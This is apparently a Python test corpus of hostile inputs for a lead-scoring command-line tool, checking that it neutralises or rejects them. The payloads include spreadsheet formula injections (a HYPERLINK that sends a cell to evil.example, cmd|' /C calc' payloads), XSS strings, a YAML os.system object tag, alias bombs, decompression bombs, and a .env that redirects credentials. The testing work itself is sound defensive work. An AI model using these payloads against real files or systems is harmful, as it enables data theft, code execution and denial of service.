"""A corpus of hostile inputs: each case builds its files, names the command, and says what must
come out (exit code, a phrase of the message, and for some the content of the files written).

Used by ``tests/hostile/test_corpus.py`` (in-process, every case) and by the benchmark
``benchmarks/hostile.py`` (each case in its own process, for peak memory and time). The big
inputs (100,000 columns, decompression bombs, alias bombs) are generated, not stored.

Placeholders in a case's ``env`` values: ``{dir}`` the case's folder, ``{echo}`` the URL of an
echoing server (``tests/hostile/echo.py``) answering ``echo_status``.
"""

from __future__ import annotations

import csv
import gzip
import io
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.parquet as pq

ROOT = Path(__file__).resolve().parents[2]
RULES = ROOT / "rules" / "example.yaml"

#: distinctive secret values: any of them in any output is a leak
SECRETS = {
    "LEADSCORE_HUBSPOT__ACCESS_TOKEN": "pat-na1-HOSTILE-hubspot-7f3a9c",
    "LEADSCORE_SALESFORCE__SESSION_ID": "00DHOSTILE!sessionid.4e2b8d",
    "LEADSCORE_SALESFORCE__PASSWORD": "HostilePassw0rd-91c2",
    "LEADSCORE_SALESFORCE__SECURITY_TOKEN": "HOSTILEsectoken55aa",
    "LEADSCORE_SLACK__TOKEN": "xoxb-HOSTILE-slack-0c1d2e",
}
FORMULAS = (
    '=HYPERLINK("https://evil.example/?x="&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
LEAD_COLUMNS = [
    "lead_id",
    "company",
    "contact_name",
    "industry",
    "employee_count",
    "demo_requested",
    "pricing_page_visits",
    "email_clicks",
    "stakeholders",
]


@dataclass
class Case:
    """One hostile input and what the tool must do with it."""

    kind: str
    build: Callable[[Path], list[str]]  # writes the files into the folder, returns the argv
    code: int
    message: str  # a phrase of stdout + stderr (whitespace folded)
    env: dict[str, str] = field(default_factory=dict)
    check: Callable[[Path], None] | None = None  # asserts on the files written
    echo_status: int | None = None
    #: serve the echo over https with a self-signed certificate
    echo_tls: bool = False
    #: environment variables to remove (the https rule is tested without the tests' allowance)
    unset: tuple[str, ...] = ()


# -- file builders ---------------------------------------------------------------------------
def _lead_rows(n: int = 30) -> list[list[str]]:
    rng = np.random.default_rng(1)
    return [
        [
            f"L{i:03d}",
            f"Company {i}",
            f"Contact {i}",
            str(rng.choice(["Healthcare", "Retail", "Software"])),
            str(int(rng.integers(10, 3000))),
            str(rng.choice(["true", "false"])),
            str(int(rng.integers(0, 6))),
            str(int(rng.integers(0, 4))),
            str(int(rng.integers(1, 5))),
        ]
        for i in range(n)
    ]


def leads_csv(
    path: Path,
    *,
    cells: dict[tuple[int, str], str] | None = None,
    extra: dict[str, str] | None = None,
) -> Path:
    """A leads file the example rules score; ``cells`` overrides (row, column) values, ``extra``
    adds columns (name -> value in every row)."""
    rows = _lead_rows()
    header = list(LEAD_COLUMNS)
    for (row, column), value in (cells or {}).items():
        rows[row][header.index(column)] = value
    for name, value in (extra or {}).items():
        header.append(name)
        for r in rows:
            r.append(value)
    buf = io.StringIO()
    csv.writer(buf, lineterminator="\n", quoting=csv.QUOTE_ALL).writerows([header, *rows])
    path.write_text(buf.getvalue(), encoding="utf-8", newline="")
    return path


def deals_csv(
    path: Path,
    *,
    column: str = "industry",
    values: tuple[str, str] = ("Software", "Retail"),
    n: int = 240,
) -> Path:
    """A deals file with a planted effect: ``column`` = ``values[0]`` wins far more often."""
    rng = np.random.default_rng(0)
    buf = io.StringIO()
    w = csv.writer(buf, lineterminator="\n")
    w.writerow(["deal_id", column, "employee_count", "outcome"])
    for i in range(n):
        value = values[int(rng.random() < 0.5)]
        won = rng.random() < (0.7 if value == values[0] else 0.15)
        w.writerow([f"D{i}", value, int(rng.integers(10, 900)), "won" if won else "lost"])
    path.write_text(buf.getvalue(), encoding="utf-8")
    return path


def _cells(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def assert_no_formula_cells(path: Path) -> None:
    """No cell (header included) starts a spreadsheet formula, unless it is a plain number."""
    from service.data.csv_out import _NUMBER

    for row in _cells(path):
        for value in row:
            if value[:1] in ("=", "+", "-", "@", "\t", "\r"):
                assert _NUMBER.match(value), (path.name, value)


def _expect_cell(name: str, column: str, value: str) -> Callable[[Path], None]:
    def check(folder: Path) -> None:
        rows = _cells(folder / name)
        col = rows[0].index(column)
        assert rows[1][col] == value, (rows[1][col], value)
        if value[:1] != "=":  # --raw keeps a formula: only the neutralised files are checked
            assert_no_formula_cells(folder / name)

    return check


ACTIVE_MARKDOWN = ("<script", "<img", "<svg", "](javascript:", "](https://evil", "<javascript:")


def assert_inert_markdown(*names: str) -> Callable[[Path], None]:
    """The reports hold no raw HTML, no javascript: link, no remote image (outside code)."""

    def check(folder: Path) -> None:
        from service.report.escape import _CODE_SPAN, _FENCE

        for name in names:
            text = _FENCE.sub("", (folder / name).read_text(encoding="utf-8"))
            text = _CODE_SPAN.sub("", text)
            for needle in ACTIVE_MARKDOWN:
                assert needle not in text, (name, needle)

    return check


def _score(folder: Path, leads: Path, *extra: str) -> list[str]:
    return [
        "score",
        str(leads),
        "--model",
        str(RULES),
        "--out",
        str(folder / "scored.csv"),
        "--report",
        str(folder / "batch.md"),
        *extra,
    ]


def formula_case(kind: str, value: str, column: str = "company") -> Case:
    def build(d: Path) -> list[str]:
        return _score(d, leads_csv(d / "leads.csv", cells={(0, column): value}))

    return Case(
        kind, build, 0, "leads scored", check=_expect_cell("scored.csv", column, "'" + value)
    )


def _formula_header(d: Path) -> list[str]:
    return _score(d, leads_csv(d / "leads.csv", extra={"=cmd|' /C calc'!A0": "1"}))


def _negative_stays(d: Path) -> list[str]:
    return _score(d, leads_csv(d / "leads.csv", cells={(0, "company"): "-5"}))


def _raw(d: Path) -> list[str]:
    return [*_score(d, leads_csv(d / "leads.csv", cells={(0, "company"): FORMULAS[0]})), "--raw"]


def _crm_pull(d: Path) -> list[str]:
    from tests.fakes.local import LocalFake

    fake = LocalFake(d / "crm.db")
    fake.add_leads(2, attributes={"industry": FORMULAS[0], "=evil()": "@SUM(1)"})
    fake.add_deals(3, 3)
    fake.close()
    return ["crm", "pull", "--out", str(d / "pulled")]


def _check_pull(d: Path) -> None:
    for name in ("deals.csv", "leads.csv", "activities.csv"):
        assert_no_formula_cells(d / "pulled" / name)
    assert any("'=HYPERLINK" in v for row in _cells(d / "pulled" / "leads.csv") for v in row)


# -- markdown --------------------------------------------------------------------------------
def markdown_value_case(kind: str, value: str, column: str = "company") -> Case:
    def build(d: Path) -> list[str]:
        cells = {(i, column): value for i in range(30)}
        cells.update({(i, "demo_requested"): "true" for i in range(30)})
        cells.update({(i, "pricing_page_visits"): "5" for i in range(30)})
        cells.update({(i, "industry"): "Healthcare" for i in range(30)})
        return _score(d, leads_csv(d / "leads.csv", cells=cells))

    return Case(kind, build, 0, "leads scored", check=assert_inert_markdown("batch.md"))


def markdown_build_case(kind: str, column: str, values: tuple[str, str], shown: str) -> Case:
    """Build a model from deals whose field name or values are hostile; ``shown`` (a part of
    them) must reach the report, as text."""

    def build(d: Path) -> list[str]:
        deals = deals_csv(d / "deals.csv", column=column, values=values, n=160)
        return ["build", str(deals), "--out", str(d / "model")]

    def check(d: Path) -> None:
        assert_inert_markdown("lead-scoring-model.md", "rep-guide.md")(d / "model")
        assert shown in (d / "model" / "lead-scoring-model.md").read_text(encoding="utf-8")

    return Case(kind, build, 0, "model.yaml", check=check)


# -- YAML and JSON ---------------------------------------------------------------------------
def _write(d: Path, name: str, text: str | bytes) -> Path:
    path = d / name
    if isinstance(text, bytes):
        path.write_bytes(text)
    else:
        path.write_text(text, encoding="utf-8")
    return path


def _laughs(levels: int = 9) -> str:
    lines = ['a0: &a0 ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, levels):
        refs = ",".join([f"*a{i - 1}"] * 9)
        lines.append(f"a{i}: &a{i} [{refs}]")
    return "\n".join(lines) + "\n"


def _deep_block(levels: int = 300) -> str:
    return "".join(f"{'  ' * i}k{i}:\n" for i in range(levels)) + "  " * levels + "x: 1\n"


def _rules_check(name: str, text: str | bytes) -> Callable[[Path], list[str]]:
    return lambda d: ["rules", "check", str(_write(d, name, text))]


def _icp(text: str) -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        deals = deals_csv(d / "deals.csv")
        return [
            "build",
            str(deals),
            "--icp",
            str(_write(d, "icp.yaml", text)),
            "--out",
            str(d / "m"),
        ]

    return build


def _audit_config(text: str) -> Callable[[Path], list[str]]:
    return lambda d: [
        "audit",
        str(deals_csv(d / "deals.csv")),
        "--config",
        str(_write(d, "c.yaml", text)),
    ]


def _analysis(text: str) -> Callable[[Path], list[str]]:
    def build(d: Path) -> list[str]:
        model = d / "model"
        model.mkdir()
        (model / "model.yaml").write_text(RULES.read_text(encoding="utf-8"), encoding="utf-8")
        (model / "analysis.json").write_text(text, encoding="utf-8")
        return ["score", str(leads_csv(d / "leads.csv")), "--model", str(model / "model.yaml")]

    return build


HUGE = "9" * 5000


# -- data files ------------------------------------------------------------------------------
def _wide_csv(d: Path) -> Path:
    path = d / "wide.csv"
    header = ",".join(f"c{i}" for i in range(100_000))
    row = ",".join("1" for _ in range(100_000))
    path.write_text(f"{header},outcome\n{row},won\n{row},lost\n", encoding="utf-8")
    return path


def _bytes_csv(d: Path, data: bytes, name: str = "deals.csv") -> Path:
    return _write(d, name, data)


def _parquet_bomb(d: Path) -> Path:
    path = d / "bomb.parquet"
    rows = 200_000  # 2 GB of text once decompressed, a few hundred KB on disk
    column = pa.DictionaryArray.from_arrays(
        pa.array(np.zeros(rows, dtype=np.int32)), pa.array(["x" * 10_000])
    )
    # without the Arrow schema, as other writers do: the text comes back as plain strings
    pq.write_table(pa.table({"outcome": column}), path, compression="zstd", store_schema=False)
    return path


def _parquet_dictionary_bomb(d: Path) -> Path:
    """The same, read back as a dictionary column: still 2 GB once the values are spelled out."""
    path = d / "dict-bomb.parquet"
    column = pa.DictionaryArray.from_arrays(
        pa.array(np.zeros(200_000, dtype=np.int32)), pa.array(["y" * 10_000])
    )
    pq.write_table(pa.table({"outcome": column}), path, compression="zstd")
    return path


def _parquet_wide(d: Path) -> Path:
    path = d / "wide.parquet"
    arrays = [pa.array([1, 2], pa.int8())] * 100_000
    pq.write_table(pa.Table.from_arrays(arrays, names=[f"c{i}" for i in range(100_000)]), path)
    return path


def _parquet_nested(d: Path, levels: int = 3) -> Path:
    path = d / "nested.parquet"
    deep: pa.DataType = pa.int8()
    for _ in range(levels):
        deep = pa.list_(deep)
    value: object = 1
    for _ in range(levels):
        value = [value]
    table = pa.table({"outcome": ["won", "lost"], "deep": pa.array([value, value], deep)})
    pq.write_table(table, path)
    return path


def _gzip_csv(d: Path) -> Path:
    return _write(d, "deals.csv", gzip.compress(b"a,outcome\n" + b"x,won\n" * 2_000_000))


def _valid_deals_text() -> str:
    lines = ["deal_id,industry,employee_count,outcome"]
    rng = np.random.default_rng(0)
    for i in range(80):
        lines.append(
            f"D{i},{rng.choice(['Software', 'Retail'])},{rng.integers(10, 900)},"
            f"{'won' if rng.random() < 0.4 else 'lost'}"
        )
    return "\n".join(lines) + "\n"


def _with_line(line_no: int, raw: bytes) -> bytes:
    lines = _valid_deals_text().encode().split(b"\n")
    lines[line_no - 1] = raw
    return b"\n".join(lines)


# -- settings, secrets, servers --------------------------------------------------------------
def _dotenv(d: Path) -> list[str]:
    _write(d, ".env", "LEADSCORE_CONNECTOR=hubspot\nLEADSCORE_HUBSPOT__HOST=http://evil.example\n")
    return ["daemon", "status"]


def _named_env(d: Path) -> list[str]:
    _write(d, "leadscore.env", "LEADSCORE_HUBSPOT__HOST=http://evil.example\n")
    return ["daemon", "status"]


def _pending_markup(d: Path) -> list[str]:
    from connectors.base import RecordError
    from service.state.store import StateStore

    store = StateStore(f"sqlite:///{d / 'state.db'}")
    store.record_failures(
        "local", [RecordError("[/bold]", "[link=https://evil.example]click[/link] [bold]x", True)]
    )
    store.close()
    return ["daemon", "status"]


def _markup_column(d: Path) -> list[str]:
    path = deals_csv(d / "deals.csv", column="Industry [/bold] [link=https://evil.example]x")
    return ["audit", str(path)]


HUBSPOT = {
    "LEADSCORE_CONNECTOR": "hubspot",
    "LEADSCORE_HUBSPOT__HOST": "{echo}",
    "LEADSCORE_HUBSPOT__ACCESS_TOKEN": SECRETS["LEADSCORE_HUBSPOT__ACCESS_TOKEN"],
}
SF_SESSION = {
    "LEADSCORE_CONNECTOR": "salesforce",
    "LEADSCORE_SALESFORCE__INSTANCE_URL": "{echo}",
    "LEADSCORE_SALESFORCE__SESSION_ID": SECRETS["LEADSCORE_SALESFORCE__SESSION_ID"],
}
SF_LOGIN = {
    "LEADSCORE_CONNECTOR": "salesforce",
    "LEADSCORE_SALESFORCE__LOGIN_URL": "{echo}",
    "LEADSCORE_SALESFORCE__USERNAME": "ops@example.com",
    "LEADSCORE_SALESFORCE__PASSWORD": SECRETS["LEADSCORE_SALESFORCE__PASSWORD"],
    "LEADSCORE_SALESFORCE__SECURITY_TOKEN": SECRETS["LEADSCORE_SALESFORCE__SECURITY_TOKEN"],
}
INSECURE = ("LEADSCORE_ALLOW_INSECURE_HTTP",)
STATE = {"LEADSCORE_STATE_URL": "sqlite:///{dir}/state.db", "LEADSCORE_LOCAL__PATH": "{dir}/crm.db"}


def _cases() -> list[Case]:
    valid = _valid_deals_text().encode()
    return [
        # 1. spreadsheet formulas: scored.csv, crm pull, --raw, numbers untouched
        formula_case("formula-equals", FORMULAS[0]),
        formula_case("formula-plus", FORMULAS[1]),
        formula_case("formula-minus", FORMULAS[2]),
        formula_case("formula-at", FORMULAS[3]),
        formula_case("formula-tab", FORMULAS[4], column="contact_name"),
        formula_case("formula-carriage-return", FORMULAS[5], column="contact_name"),
        formula_case("formula-in-industry", FORMULAS[0], column="industry"),
        Case(
            "formula-in-column-name",
            _formula_header,
            0,
            "leads scored",
            check=lambda d: assert_no_formula_cells(d / "scored.csv"),
        ),
        Case(
            "negative-number-stays-a-number",
            _negative_stays,
            0,
            "leads scored",
            check=_expect_cell("scored.csv", "company", "-5"),
        ),
        Case(
            "raw-keeps-formulas",
            _raw,
            0,
            "leads scored",
            check=_expect_cell("scored.csv", "company", FORMULAS[0]),
        ),
        Case("formula-from-crm-pull", _crm_pull, 0, "leads.csv", env=STATE, check=_check_pull),
        # 2. markdown and HTML in values and field names
        markdown_value_case("html-script-in-value", "<script>alert(1)</script>"),
        markdown_value_case("html-img-onerror-in-value", "<img src=x onerror=alert(1)>"),
        markdown_value_case("javascript-link-in-value", "[click me](javascript:alert(1))"),
        markdown_value_case("remote-image-in-value", "![x](https://evil.example/t.png)"),
        markdown_value_case("autolink-in-value", "<javascript:alert(1)>"),
        markdown_value_case(
            "backtick-breakout-in-value", "a` <svg onload=alert(1)> `b", column="contact_name"
        ),
        markdown_build_case(
            "html-in-field-name",
            "<img src=x onerror=alert(1)>",
            ("Software", "Retail"),
            "onerror=alert(1)",
        ),
        markdown_build_case(
            "links-in-deal-values",
            "industry",
            ("[a](javascript:alert(1))", "![b](https://evil.example/t.png)"),
            "javascript:alert(1)",
        ),
        # 5. parser bombs and limits: YAML
        Case(
            "yaml-deep-flow-nesting",
            _rules_check("r.yaml", "[" * 20_000 + "]" * 20_000),
            2,
            "nests deeper than 64 levels",
        ),
        Case(
            "yaml-deep-block-nesting",
            _rules_check("r.yaml", _deep_block()),
            2,
            "LEADSCORE_LIMITS__MAX_NESTING",
        ),
        Case(
            "yaml-alias-bomb-rules",
            _rules_check("r.yaml", _laughs()),
            2,
            "LEADSCORE_LIMITS__MAX_YAML_NODES",
        ),
        Case("yaml-alias-bomb-icp", _icp(_laughs()), 2, "LEADSCORE_LIMITS__MAX_YAML_NODES"),
        Case(
            "yaml-alias-bomb-config",
            _audit_config(_laughs()),
            2,
            "LEADSCORE_LIMITS__MAX_YAML_NODES",
        ),
        Case(
            "yaml-recursive-alias", _rules_check("r.yaml", "a: &a [1, *a]\n"), 2, "contains itself"
        ),
        Case(
            "yaml-huge-integer-rules",
            _rules_check("r.yaml", f"version: {HUGE}\n"),
            2,
            "5,000 digits",
        ),
        Case("yaml-huge-integer-icp", _icp(f"employee_count: {HUGE}\n"), 2, "5,000 digits"),
        Case(
            "yaml-python-object-tag",
            _rules_check("r.yaml", "x: !!python/object/apply:os.system ['echo pwned']\n"),
            2,
            "not valid YAML",
        ),
        Case(
            "yaml-over-size-limit",
            _rules_check("r.yaml", "# " + "x" * 4000 + "\n"),
            2,
            "LEADSCORE_LIMITS__MAX_CONFIG_MB",
            env={"LEADSCORE_LIMITS__MAX_CONFIG_MB": "0.001"},
        ),
        Case("yaml-invalid-utf8", _rules_check("r.yaml", b"version: \xff\xfe\n"), 2, "not UTF-8"),
        Case("yaml-nul-byte", _rules_check("r.yaml", "version: a\x00b\n"), 2, "not valid YAML"),
        # JSON
        Case(
            "json-deep-nesting",
            _analysis("[" * 100_000 + "]" * 100_000),
            2,
            "LEADSCORE_LIMITS__MAX_NESTING",
        ),
        Case("json-huge-integer", _analysis('{"a": ' + HUGE + "}"), 2, "4,300 digits"),
        # data files
        Case(
            "csv-100000-columns-audit",
            lambda d: ["audit", str(_wide_csv(d))],
            2,
            "100,001 columns; the limit is 2,000 (raise it with LEADSCORE_LIMITS__MAX_COLUMNS)",
        ),
        Case(
            "csv-100000-columns-score",
            lambda d: ["score", str(_wide_csv(d)), "--model", str(RULES)],
            2,
            "LEADSCORE_LIMITS__MAX_COLUMNS",
        ),
        Case(
            "csv-nul-byte-in-a-row",
            lambda d: ["audit", str(_bytes_csv(d, _with_line(5, b"D3,Soft\x00ware,10,won")))],
            2,
            "line 5 holds a NUL byte",
        ),
        Case(
            "csv-binary-file",
            lambda d: ["audit", str(_bytes_csv(d, b"\x00\x01" * 100))],
            2,
            "a binary file",
        ),
        Case(
            "csv-invalid-utf8-in-a-row",
            lambda d: ["audit", str(_bytes_csv(d, _with_line(4, b"D2,Caf\xc3\xa9 \xe9x,10,won")))],
            2,
            "line 4 is not valid UTF-8",
        ),
        Case(
            "csv-huge-integer-cell",
            lambda d: [
                "audit",
                str(_bytes_csv(d, _with_line(3, f"D1,Software,{HUGE},won".encode()))),
            ],
            0,
            "Per attribute",
        ),
        Case(
            "csv-huge-integer-in-leads",
            lambda d: _score(d, leads_csv(d / "leads.csv", cells={(0, "employee_count"): HUGE})),
            0,
            "leads scored",
        ),
        Case(
            "csv-gzip-bomb", lambda d: ["audit", str(_gzip_csv(d))], 2, "a compressed file (gzip)"
        ),
        Case(
            "csv-over-size-limit",
            lambda d: ["audit", str(_bytes_csv(d, valid))],
            2,
            "LEADSCORE_LIMITS__MAX_FILE_MB",
            env={"LEADSCORE_LIMITS__MAX_FILE_MB": "0.0001"},
        ),
        Case(
            "parquet-decompression-bomb",
            lambda d: ["audit", str(_parquet_bomb(d))],
            2,
            "MB of values; the limit is 512 MB (raise it with LEADSCORE_LIMITS__MAX_DATA_MB)",
        ),
        Case(
            "parquet-100000-columns",
            lambda d: ["audit", str(_parquet_wide(d))],
            2,
            "LEADSCORE_LIMITS__MAX_COLUMNS",
        ),
        Case(
            "parquet-nested-columns",
            lambda d: ["audit", str(_parquet_nested(d))],
            2,
            "holds nested values",
        ),
        Case(
            "parquet-deeply-nested-schema",
            lambda d: ["audit", str(_parquet_nested(d, 60))],
            2,
            "not a readable Parquet file",
        ),
        Case(
            "parquet-dictionary-bomb",
            lambda d: ["audit", str(_parquet_dictionary_bomb(d))],
            2,
            "LEADSCORE_LIMITS__MAX_DATA_MB",
        ),
        Case(
            "parquet-garbage",
            lambda d: ["audit", str(_bytes_csv(d, b"PAR1" + b"\x07" * 64 + b"PAR1", "x.parquet"))],
            2,
            "not a readable Parquet file",
        ),
        # 3-4. where secrets go: http://, a planted .env, echoing servers
        Case(
            "http-hubspot-host",
            lambda d: ["crm", "check"],
            2,
            "LEADSCORE_HUBSPOT__HOST: http:// sends the credentials in clear text",
            env={**HUBSPOT, "LEADSCORE_HUBSPOT__HOST": "http://api.hubapi.com"},
            unset=INSECURE,
        ),
        Case(
            "http-salesforce-instance",
            lambda d: ["crm", "check"],
            2,
            "LEADSCORE_SALESFORCE__INSTANCE_URL: http://",
            env={
                **SF_SESSION,
                "LEADSCORE_SALESFORCE__INSTANCE_URL": "http://acme.my.salesforce.com",
            },
            unset=INSECURE,
        ),
        Case(
            "http-slack",
            lambda d: ["daemon", "status"],
            2,
            "LEADSCORE_SLACK__BASE_URL: http://",
            env={**STATE, "LEADSCORE_SLACK__BASE_URL": "http://slack.example/api/"},
            unset=INSECURE,
        ),
        Case("dotenv-redirect-ignored", _dotenv, 0, "connector local", env=STATE, unset=INSECURE),
        Case(
            "env-file-named-is-read",
            _named_env,
            2,
            "LEADSCORE_HUBSPOT__HOST: http://",
            env={**STATE, "LEADSCORE_ENV_FILE": "{dir}/leadscore.env"},
            unset=INSECURE,
        ),
        Case(
            "env-file-missing",
            lambda d: ["daemon", "status"],
            2,
            "LEADSCORE_ENV_FILE={dir}/nope.env: no such file",
            env={**STATE, "LEADSCORE_ENV_FILE": "{dir}/nope.env"},
        ),
        Case(
            "echo-hubspot-token",
            lambda d: ["crm", "check"],
            2,
            "HubSpot refused the credentials (401)",
            env=HUBSPOT,
            echo_status=401,
        ),
        Case(
            "echo-salesforce-session",
            lambda d: ["crm", "check"],
            2,
            "Salesforce refused the credentials (401)",
            env=SF_SESSION,
            echo_status=401,
        ),
        Case(
            "echo-salesforce-login",
            lambda d: ["crm", "check"],
            2,
            "Salesforce login (password) failed",
            env=SF_LOGIN,
            echo_status=401,
        ),
        # 8. a certificate that does not verify
        Case(
            "tls-bad-certificate-hubspot",
            lambda d: ["crm", "check"],
            2,
            "HubSpot: the server's TLS certificate could not be verified",
            env=HUBSPOT,
            echo_status=200,
            echo_tls=True,
            unset=INSECURE,
        ),
        Case(
            "tls-bad-certificate-salesforce",
            lambda d: ["crm", "check"],
            2,
            "Salesforce: the server's TLS certificate could not be verified",
            env=SF_SESSION,
            echo_status=200,
            echo_tls=True,
            unset=INSECURE,
        ),
        # 8. markup in ids and names
        Case(
            "markup-in-record-id",
            _pending_markup,
            0,
            "[/bold]: [link=https://evil.example]",
            env=STATE,
        ),
        Case("markup-in-column-name", _markup_column, 0, "Industry [/bold]"),
    ]


CASES: list[Case] = _cases()
